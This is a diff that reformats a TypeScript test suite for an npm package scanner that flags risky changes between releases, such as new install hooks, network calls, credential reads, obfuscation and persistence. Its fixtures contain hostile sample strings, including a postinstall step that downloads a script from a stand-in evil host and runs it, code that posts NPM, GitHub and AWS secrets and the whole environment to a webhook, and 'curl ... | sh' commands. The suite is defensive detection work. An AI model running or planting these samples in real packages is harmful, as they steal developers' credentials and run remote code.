@@ -16,7 +16,10 @@ function pkg(version: string, files: Record<string, FileSpec | object>, name = '
   const map = new Map<string, PackageFile>();
   let bytes = 0;
   for (const [p, spec0] of Object.entries(files)) {
-    const spec: FileSpec = p === 'package.json' && typeof spec0 === 'object' && !Buffer.isBuffer(spec0) && !('data' in spec0) ? JSON.stringify({ name, version, ...spec0 }) : (spec0 as FileSpec);
+    const spec: FileSpec =
+      p === 'package.json' && typeof spec0 === 'object' && !Buffer.isBuffer(spec0) && !('data' in spec0)
+        ? JSON.stringify({ name, version, ...spec0 })
+        : (spec0 as FileSpec);
     const o = typeof spec === 'string' || Buffer.isBuffer(spec) ? { data: spec } : spec;
     const data = o.data === undefined ? undefined : Buffer.isBuffer(o.data) ? o.data : Buffer.from(o.data, 'utf8');
     const f: PackageFile = { path: p, size: o.size ?? data?.length ?? 0, mode: o.mode ?? 0o644 };
@@ -68,13 +71,16 @@ function obfuscated(body: string): string {
   );
 }
 
-
 describe('content analysis', () => {
   describe('content-install-hook', () => {
     const v1 = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
 
     it('flags a postinstall the previous release lacked (high), naming the file it runs and its status', () => {
-      const v2 = pkg('1.0.1', { 'package.json': { main: 'index.js', scripts: { postinstall: 'node ./scripts/setup' } }, 'index.js': LIB_V1, 'scripts/setup.js': 'console.log("hi")\n' });
+      const v2 = pkg('1.0.1', {
+        'package.json': { main: 'index.js', scripts: { postinstall: 'node ./scripts/setup' } },
+        'index.js': LIB_V1,
+        'scripts/setup.js': 'console.log("hi")\n',
+      });
       const f = find(run({ current: v2, previous: v1 }), 'content-install-hook')!;
       assert.equal(f.severity, 'high');
       assert.match(f.message, /adds a postinstall script/);
@@ -83,18 +89,32 @@ describe('content analysis', () => {
     });
 
     it('is quiet when the hook and the code it runs are the same as before', () => {
-      const files = { 'package.json': { scripts: { install: 'node install.js' } }, 'index.js': LIB_V1, 'install.js': 'require("./lib/x")\n', 'lib/x.js': 'module.exports = 1\n' };
+      const files = {
+        'package.json': { scripts: { install: 'node install.js' } },
+        'index.js': LIB_V1,
+        'install.js': 'require("./lib/x")\n',
+        'lib/x.js': 'module.exports = 1\n',
+      };
       assert.equal(find(run({ current: pkg('1.0.1', files), previous: pkg('1.0.0', files) }), 'content-install-hook'), undefined);
     });
 
     it('same command running changed code: low without new capabilities, high when it gains network and process use', () => {
-      const before = pkg('1.0.0', { 'package.json': { scripts: { postinstall: 'node install.js' } }, 'install.js': 'require("./lib/check")\n', 'lib/check.js': 'module.exports = process.platform\n' });
-      const quiet = pkg('1.0.1', { 'package.json': { scripts: { postinstall: 'node install.js' } }, 'install.js': 'require("./lib/check")\n', 'lib/check.js': 'module.exports = process.platform + process.arch\n' });
+      const before = pkg('1.0.0', {
+        'package.json': { scripts: { postinstall: 'node install.js' } },
+        'install.js': 'require("./lib/check")\n',
+        'lib/check.js': 'module.exports = process.platform\n',
+      });
+      const quiet = pkg('1.0.1', {
+        'package.json': { scripts: { postinstall: 'node install.js' } },
+        'install.js': 'require("./lib/check")\n',
+        'lib/check.js': 'module.exports = process.platform + process.arch\n',
+      });
       assert.equal(severityOf(run({ current: quiet, previous: before }), 'content-install-hook'), 'low');
       const loud = pkg('1.0.1', {
         'package.json': { scripts: { postinstall: 'node install.js' } },
         'install.js': 'require("./lib/check")\n',
-        'lib/check.js': 'const https = require("https");\nconst { execSync } = require("child_process");\nhttps.get("https://cdn.evil.example/p.sh", () => execSync("sh p.sh"));\n',
+        'lib/check.js':
+          'const https = require("https");\nconst { execSync } = require("child_process");\nhttps.get("https://cdn.evil.example/p.sh", () => execSync("sh p.sh"));\n',
       });
       const fs = run({ current: loud, previous: before });
       const f = find(fs, 'content-install-hook')!;
@@ -144,7 +164,12 @@ describe('content analysis', () => {
       'index.js': LIB_V1,
       'p.js': '1',
     });
-    const honest: VersionSummary = { version: '2.0.0', installScripts: { postinstall: 'node p.js' }, hasInstallScript: true, dependencies: { a: '^1.0.0', evil: '1.0.0' } };
+    const honest: VersionSummary = {
+      version: '2.0.0',
+      installScripts: { postinstall: 'node p.js' },
+      hasInstallScript: true,
+      dependencies: { a: '^1.0.0', evil: '1.0.0' },
+    };
 
     it('is quiet when the tarball and the registry agree', () => {
       assert.equal(find(run({ current: tarball, registry: honest }), 'manifest-mismatch'), undefined);
@@ -167,13 +192,25 @@ describe('content analysis', () => {
 
     it("tolerates what npm itself changes at publish: node-gyp's implicit install, optional dependencies, abbreviated metadata", () => {
       const gyp = pkg('1.0.0', { 'package.json': { dependencies: { x: '1' }, optionalDependencies: { fsevents: '^2' } }, 'binding.gyp': '{}' });
-      assert.equal(find(run({ current: gyp, registry: { version: '1.0.0', installScripts: { install: 'node-gyp rebuild' }, dependencies: { x: '1', fsevents: '^2' } } }), 'manifest-mismatch'), undefined);
-      assert.equal(find(run({ current: gyp, registry: { version: '1.0.0', hasInstallScript: true, dependencies: { x: '1' } } }), 'manifest-mismatch'), undefined);
+      assert.equal(
+        find(
+          run({ current: gyp, registry: { version: '1.0.0', installScripts: { install: 'node-gyp rebuild' }, dependencies: { x: '1', fsevents: '^2' } } }),
+          'manifest-mismatch',
+        ),
+        undefined,
+      );
+      assert.equal(
+        find(run({ current: gyp, registry: { version: '1.0.0', hasInstallScript: true, dependencies: { x: '1' } } }), 'manifest-mismatch'),
+        undefined,
+      );
     });
 
     it('registry-only install scripts (that will not run) are medium', () => {
       const plain = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
-      assert.equal(severityOf(run({ current: plain, registry: { version: '1.0.0', installScripts: { preinstall: 'node x' } } }), 'manifest-mismatch'), 'medium');
+      assert.equal(
+        severityOf(run({ current: plain, registry: { version: '1.0.0', installScripts: { preinstall: 'node x' } } }), 'manifest-mismatch'),
+        'medium',
+      );
     });
   });
 
@@ -201,11 +238,16 @@ describe('content analysis', () => {
 
   describe('content-network', () => {
     it('a clearly named HTTP client adding a small https call is medium, not high', () => {
-      const a = pkg('1.0.0', { 'index.js': 'module.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\n' }, 'tiny-http-client');
+      const a = pkg(
+        '1.0.0',
+        { 'index.js': 'module.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\n' },
+        'tiny-http-client',
+      );
       const b = pkg(
         '1.1.0',
         {
-          'index.js': 'const https = require("https");\nmodule.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\nmodule.exports.get = (u, cb) => https.get(u, cb);\n',
+          'index.js':
+            'const https = require("https");\nmodule.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\nmodule.exports.get = (u, cb) => https.get(u, cb);\n',
         },
         'tiny-http-client',
       );
@@ -216,14 +258,20 @@ describe('content analysis', () => {
       assert.deepEqual(codes(fs), ['content-network']);
     });
     it('new hosts count in code that uses the network, not in comments, docs links or the package homepage', () => {
-      const a = pkg('1.0.0', { 'package.json': { homepage: 'https://lib.example.dev' }, 'index.js': 'const https = require("https");\nexports.get = () => https.get("https://api.lib.example.dev/v1");\n' });
+      const a = pkg('1.0.0', {
+        'package.json': { homepage: 'https://lib.example.dev' },
+        'index.js': 'const https = require("https");\nexports.get = () => https.get("https://api.lib.example.dev/v1");\n',
+      });
       const b = pkg('1.0.1', {
         'package.json': { homepage: 'https://lib.example.dev' },
         'index.js':
           'const https = require("https");\n// mirror: https://mirror.other.example/v1\n/* see https://developer.mozilla.org/en-US/docs/Web/HTTP */\nexports.get = () => https.get("https://api.lib.example.dev/v2");\nexports.docs = "https://docs.lib.example.dev";\n',
       });
       assert.equal(find(run({ current: b, previous: a }), 'content-network'), undefined);
-      const c = pkg('1.0.1', { 'package.json': { homepage: 'https://lib.example.dev' }, 'index.js': a.files.get('index.js')!.data!.toString() + 'https.get("https://collect.other.example/x");\n' });
+      const c = pkg('1.0.1', {
+        'package.json': { homepage: 'https://lib.example.dev' },
+        'index.js': a.files.get('index.js')!.data!.toString() + 'https.get("https://collect.other.example/x");\n',
+      });
       const f = find(run({ current: c, previous: a }), 'content-network')!;
       assert.equal(f.severity, 'medium');
       assert.match(f.message, /collect\.other\.example/);
@@ -249,7 +297,9 @@ describe('content analysis', () => {
       assert.equal(f.severity, 'medium');
       assert.match(f.message, /NPM_TOKEN and GITHUB_TOKEN/);
       assert.match(evidenceText(f), /index\.js:7 = NPM_TOKEN: process\.env\.NPM_TOKEN/);
-      const c = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.NPM_TOKEN;\nrequire("https").request({ hostname: "stats.collector.example" }).end(t);\n' });
+      const c = pkg('1.0.1', {
+        'index.js': LIB_V1 + 'const t = process.env.NPM_TOKEN;\nrequire("https").request({ hostname: "stats.collector.example" }).end(t);\n',
+      });
       const g = find(run({ current: c, previous: a }), 'content-credentials')!;
       assert.equal(g.severity, 'high');
       assert.match(g.message, /sends it out \(https\)/);
@@ -257,10 +307,15 @@ describe('content analysis', () => {
     it('is quiet when the previous release read the same variable', () => {
       const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN;\n' });
       assert.equal(find(run({ current: b, previous: b }), 'content-credentials'), undefined);
-      assert.equal(find(run({ current: pkg('1.0.2', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN; // v2\n' }), previous: b }), 'content-credentials'), undefined);
+      assert.equal(
+        find(run({ current: pkg('1.0.2', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN; // v2\n' }), previous: b }), 'content-credentials'),
+        undefined,
+      );
     });
     it("an application's own *_API_KEY setting is medium; DEBUG-style filtered enumeration is nothing", () => {
-      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const key = process.env.ACME_API_KEY;\nconst opts = Object.keys(process.env).filter((k) => /^debug_/i.test(k));\n' });
+      const b = pkg('1.0.1', {
+        'index.js': LIB_V1 + 'const key = process.env.ACME_API_KEY;\nconst opts = Object.keys(process.env).filter((k) => /^debug_/i.test(k));\n',
+      });
       const f = find(run({ current: b, previous: a }), 'content-credentials')!;
       assert.equal(f.severity, 'medium');
       assert.doesNotMatch(f.message, /every environment variable/);
@@ -281,7 +336,8 @@ describe('content analysis', () => {
       const token = pkg('0.0.1', { 'index.js': 'const t = process.env.GITHUB_TOKEN\n' });
       assert.equal(severityOf(run({ current: token }), 'content-credentials'), 'medium');
       const harvest = pkg('0.0.1', {
-        'index.js': 'const os = require("os"), fs = require("fs");\nconst loot = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8")];\n',
+        'index.js':
+          'const os = require("os"), fs = require("fs");\nconst loot = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8")];\n',
       });
       const f = find(run({ current: harvest }), 'content-credentials')!;
       assert.equal(f.severity, 'high');
@@ -328,7 +384,10 @@ describe('content analysis', () => {
       const f = find(run({ current: cc, previous: a }), 'content-obfuscation')!;
       assert.equal(f.severity, 'high');
       assert.match(f.message, /character codes/);
-      assert.match(find(run({ current: pkg('1.0.1', { 'index.js': 'require(atob("Y2hpbGRfcHJvY2Vzcw=="))' }), previous: a }), 'content-obfuscation')!.message, /module name decoded/);
+      assert.match(
+        find(run({ current: pkg('1.0.1', { 'index.js': 'require(atob("Y2hpbGRfcHJvY2Vzcw=="))' }), previous: a }), 'content-obfuscation')!.message,
+        /module name decoded/,
+      );
     });
     it('a large jump of encoded text in a file that existed is medium; inline source maps and wasm are not counted', () => {
       const blob = Buffer.from(Array.from({ length: 9000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 0xff)).toString('base64');
@@ -336,7 +395,9 @@ describe('content analysis', () => {
       const f = find(run({ current: b, previous: a }), 'content-obfuscation')!;
       assert.equal(f.severity, 'medium');
       assert.match(evidenceText(f), /high-entropy encoded text: 11\.7 KB \(was 0 B\)/);
-      const map = pkg('1.0.1', { 'index.js': LIB_V1 + `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${blob}\nconst wasm = "AGFzbQ${blob}";\n` });
+      const map = pkg('1.0.1', {
+        'index.js': LIB_V1 + `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${blob}\nconst wasm = "AGFzbQ${blob}";\n`,
+      });
       assert.equal(find(run({ current: map, previous: a }), 'content-obfuscation'), undefined);
     });
   });
@@ -408,13 +469,20 @@ spread(process.env.NPM_TOKEN);
       assert.match(evidenceText(f), /index\.js:8/);
     });
     it('naming a location without writing, or in a comment, is nothing', () => {
-      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const rc = require("fs").readFileSync(home + "/.bashrc", "utf8");\n// then writeFileSync it to ~/.zshrc\n' });
+      const b = pkg('1.0.1', {
+        'index.js': LIB_V1 + 'const rc = require("fs").readFileSync(home + "/.bashrc", "utf8");\n// then writeFileSync it to ~/.zshrc\n',
+      });
       assert.equal(find(run({ current: b, previous: a }), 'content-persistence'), undefined);
     });
   });
 
   describe('content-size-jump', () => {
-    const history = [{ unpackedSize: 40_000, fileCount: 10 }, { unpackedSize: 42_000, fileCount: 11 }, { unpackedSize: 41_000, fileCount: 11 }, { unpackedSize: 9_000_000, fileCount: 12 }];
+    const history = [
+      { unpackedSize: 40_000, fileCount: 10 },
+      { unpackedSize: 42_000, fileCount: 11 },
+      { unpackedSize: 41_000, fileCount: 11 },
+      { unpackedSize: 9_000_000, fileCount: 12 },
+    ];
     it('flags a release far outside the median of its history (low)', () => {
       const big = pkg('1.0.1', { 'index.js': LIB_V1, 'bundle.js': { size: 4_000_000, skipped: 'too-large' } });
       const f = find(run({ current: big, history }), 'content-size-jump')!;
@@ -423,7 +491,10 @@ spread(process.env.NPM_TOKEN);
     });
     it('ignores growth within 5× or under 1 MB, and short histories', () => {
       assert.equal(find(run({ current: pkg('1.0.1', { 'a.js': { size: 180_000, skipped: 'too-large' } }), history }), 'content-size-jump'), undefined);
-      assert.equal(find(run({ current: pkg('1.0.1', { 'a.js': { size: 4_000_000, skipped: 'too-large' } }), history: history.slice(0, 2) }), 'content-size-jump'), undefined);
+      assert.equal(
+        find(run({ current: pkg('1.0.1', { 'a.js': { size: 4_000_000, skipped: 'too-large' } }), history: history.slice(0, 2) }), 'content-size-jump'),
+        undefined,
+      );
     });
   });
 
@@ -434,7 +505,11 @@ spread(process.env.NPM_TOKEN);
         `const https=require('https');const t={npm:process.env.NPM_TOKEN,gh:process.env.GITHUB_TOKEN,aws:process.env.AWS_SECRET_ACCESS_KEY,all:JSON.stringify(process.env)};` +
           `const r=https.request({hostname:'webhook.site',path:'/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',method:'POST'});r.write(JSON.stringify(t));r.end();`,
       );
-      const current = pkg('4.1.1', { 'package.json': { main: 'index.js', scripts: { postinstall: 'node bundle.js' } }, 'index.js': LIB_V1, 'bundle.js': payload }, 'ngx-lib');
+      const current = pkg(
+        '4.1.1',
+        { 'package.json': { main: 'index.js', scripts: { postinstall: 'node bundle.js' } }, 'index.js': LIB_V1, 'bundle.js': payload },
+        'ngx-lib',
+      );
       const fs = run({ current, previous });
       for (const code of ['content-install-hook', 'content-obfuscation', 'content-credentials', 'content-network'] as FindingCode[]) {
         assert.equal(severityOf(fs, code), 'high', `${code}: ${JSON.stringify(find(fs, code))}`);
@@ -470,7 +545,10 @@ https.get('https://bun.sh/install', (res) => {
       assert.equal(severityOf(fs, 'content-network'), 'high');
       assert.match(find(fs, 'content-network')!.message, /at install time/);
       // An inline variant: the download is in the command itself.
-      const inline = pkg('2.3.1', { 'package.json': { scripts: { preinstall: 'curl -fsSL https://bun.sh/install | bash && bun x some-tool' } }, 'index.js': LIB_V1 });
+      const inline = pkg('2.3.1', {
+        'package.json': { scripts: { preinstall: 'curl -fsSL https://bun.sh/install | bash && bun x some-tool' } },
+        'index.js': LIB_V1,
+      });
       const g = find(run({ current: inline, previous }), 'content-network')!;
       assert.equal(g.severity, 'high');
       assert.match(g.message, /downloads at install time/);
@@ -511,13 +589,20 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
   describe('scope and limits', () => {
     it('tests, examples and docs are not judged unless an install hook runs them', () => {
       const a = pkg('1.0.0', { 'index.js': LIB_V1 });
-      const b = pkg('1.0.1', { 'index.js': LIB_V1, 'test/helper.js': 'require("child_process"); process.env.GITHUB_TOKEN; fetch("https://x.example")\n', 'README.md': 'curl https://evil.example | sh' });
+      const b = pkg('1.0.1', {
+        'index.js': LIB_V1,
+        'test/helper.js': 'require("child_process"); process.env.GITHUB_TOKEN; fetch("https://x.example")\n',
+        'README.md': 'curl https://evil.example | sh',
+      });
       assert.deepEqual(run({ current: b, previous: a }), []);
     });
 
     it('…but code the package requires from such a folder is judged', () => {
       const a = pkg('1.0.0', { 'index.js': LIB_V1 });
-      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'require("./test/fixtures/helper");\n', 'test/fixtures/helper.js': 'require("child_process").exec("id")\n' });
+      const b = pkg('1.0.1', {
+        'index.js': LIB_V1 + 'require("./test/fixtures/helper");\n',
+        'test/fixtures/helper.js': 'require("child_process").exec("id")\n',
+      });
       const f = find(run({ current: b, previous: a }), 'content-process')!;
       assert.match(evidenceText(f), /test\/fixtures\/helper\.js:1/);
     });
@@ -531,7 +616,10 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
 
     it('signals the previous release could not be read for are not called new at high', () => {
       const a = pkg('1.0.0', { 'index.js': LIB_V1, 'dist/big.js': { size: 6_000_000, skipped: 'too-large' } });
-      const b = pkg('1.0.1', { 'index.js': LIB_V1, 'dist/cli.js': 'const t = [process.env.NPM_TOKEN, process.env.GH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];\n' });
+      const b = pkg('1.0.1', {
+        'index.js': LIB_V1,
+        'dist/cli.js': 'const t = [process.env.NPM_TOKEN, process.env.GH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];\n',
+      });
       assert.equal(severityOf(run({ current: b, previous: pkg('1.0.0', { 'index.js': LIB_V1 }) }), 'content-credentials'), 'high');
       const f = find(run({ current: b, previous: a }), 'content-credentials')!;
       assert.equal(f.severity, 'medium');
@@ -555,7 +643,7 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
         '_0x names': '_0xabcd+'.repeat(five / 8),
         'quotes and slashes': '"/*\'//`'.repeat(five / 7),
         'json stringify': 'JSON.stringify({'.repeat(five / 16) + 'process.env',
-        'whitespace': ' '.repeat(five),
+        whitespace: ' '.repeat(five),
         'persistence words': '.bashrc writeFile '.repeat(five / 18),
         'exfil names run together': 'transfer.sh'.repeat(five / 11),
       };
@@ -565,7 +653,9 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
       }
       for (const kind of ['js', 'shell', 'python'] as const) {
         // Every anchor the scanner looks for, back to back and with separators, to 5 MB.
-        const unit = anchorsOf(kind).map((a, i) => a + ['', ' ', '(', '"', '.'][i % 5]).join('');
+        const unit = anchorsOf(kind)
+          .map((a, i) => a + ['', ' ', '(', '"', '.'][i % 5])
+          .join('');
         const text = unit.repeat(Math.ceil(five / unit.length));
         finishesWithinHangGuard(`all ${kind} anchors`, () => scanFile(`x.${kind}`, kind, Buffer.from(text, 'latin1'), text));
       }
@@ -575,7 +665,15 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
 
     it('a 20 MB package compared with its previous release is analysed without findings (hang guard)', function () {
       this.timeout(120_000);
-      const out = buildSync({ entryPoints: [require.resolve('yaml'), require.resolve('semver')], bundle: true, minify: true, write: false, platform: 'node', outdir: path.join(__dirname, 'unused'), logLevel: 'silent' });
+      const out = buildSync({
+        entryPoints: [require.resolve('yaml'), require.resolve('semver')],
+        bundle: true,
+        minify: true,
+        write: false,
+        platform: 'node',
+        outdir: path.join(__dirname, 'unused'),
+        logLevel: 'silent',
+      });
       const chunk = out.outputFiles.map((o) => o.text).join('\n');
       const files: Record<string, string> = {};
       const filesPrev: Record<string, string> = {};
@@ -587,7 +685,10 @@ for (const name of JSON.parse(cp.execSync('npm search --json maintainer:me'))) {
       }
       const current = pkg('2.0.0', files);
       const previous = pkg('1.9.0', filesPrev);
-      assert.deepEqual(finishesWithinHangGuard('the 20 MB comparison', () => run({ current, previous })), []);
+      assert.deepEqual(
+        finishesWithinHangGuard('the 20 MB comparison', () => run({ current, previous })),
+        [],
+      );
     });
   });
 });
